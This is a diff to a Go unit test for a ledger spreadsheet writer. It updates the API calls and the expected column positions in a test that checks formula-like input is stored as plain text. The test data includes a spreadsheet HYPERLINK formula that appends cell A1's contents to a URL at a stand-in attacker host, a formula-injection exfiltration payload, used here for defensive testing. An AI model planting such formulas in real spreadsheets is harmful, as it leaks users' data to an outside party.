@@ -13,13 +13,13 @@ import (
 // workbook holds them as strings, never as formulas a spreadsheet would evaluate.
 func TestWriterStoresFormulasAsText(t *testing.T) {
 	const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"点击核实")`
-	w, err := ledger.NewWriter()
+	w, err := ledger.NewWriter(ledger.WriterOptions{})
 	if err != nil {
 		t.Fatal(err)
 	}
 	it := &ledger.Item{Source: ledger.FromPetition, Description: hyperlink, Unit: "=1+1", Person: "@SUM(A1:A2)",
 		Measures: "+1+1", Progress: "-1+1", Deadline: "2026-12-31", Status: ledger.Doing}
-	if err := w.Write(it); err != nil {
+	if err := w.Write(&ledger.Row{Item: it}); err != nil {
 		t.Fatal(err)
 	}
 	var buf bytes.Buffer
@@ -31,7 +31,7 @@ func TestWriterStoresFormulasAsText(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer f.Close()
-	for col, want := range map[string]string{"C2": hyperlink, "D2": "=1+1", "E2": "@SUM(A1:A2)", "F2": "+1+1", "H2": "-1+1"} {
+	for col, want := range map[string]string{"H2": hyperlink, "I2": "=1+1", "J2": "@SUM(A1:A2)", "K2": "+1+1", "N2": "-1+1"} {
 		got, err := f.GetCellValue(ledger.SheetName, col)
 		if err != nil || got != want {
 			t.Errorf("%s = %q (%v), want %q", col, got, err, want)
